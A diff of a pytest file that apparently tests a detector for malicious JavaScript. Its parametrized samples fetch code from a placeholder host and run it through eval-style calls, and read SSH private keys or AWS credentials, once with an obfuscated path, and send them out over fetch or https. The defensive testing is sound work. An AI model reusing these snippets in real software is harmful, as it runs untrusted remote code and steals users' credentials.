@@ -20,7 +20,7 @@ GET = "fetch('https://files.example.invalid/p.js')"
         (f"{EV}(await (await {GET}).text())", True),
         (f"{GET}.then(r => r.text()).then(t => {EV}(t))", True),
         (
-            f"https.get(u, res => {{ let d = ''; res.on('data', c => d += c); res.on('end', () => {EV}(d)); }})",
+            f"https.get(u, r => {{ let d; r.on('data', c => d += c); r.on('end', () => {EV}(d)); }})",
             True,
         ),
         (f"vm.runInThisContext(await (await {GET}).text())", True),
@@ -50,8 +50,8 @@ def test_honest_programs_are_left_alone(program: str) -> None:
 @pytest.mark.parametrize(
     "program",
     [
-        "fs.readFile(home + '/.ssh/id_rsa', 'utf8', (err, data) => { fetch(u, {method: 'POST', body: data}); });",
-        "const p = home + '/.s' + 'sh/id_' + 'rsa';\nconst k = fs.readFileSync(p);\nfetch(u, {method: 'POST', body: k});",
+        "fs.readFile(h + '/.ssh/id_rsa', 'utf8', (e, data) => { fetch(u, {method: 'POST', body: data}); });",
+        "const k = fs.readFileSync(h + '/.s' + 'sh/id_' + 'rsa');\nfetch(u, {body: k});",
         "const k = fs.readFileSync(h + '/.aws/credentials');\nconst r = https.request(o);\nr.end(k);",
     ],
 )
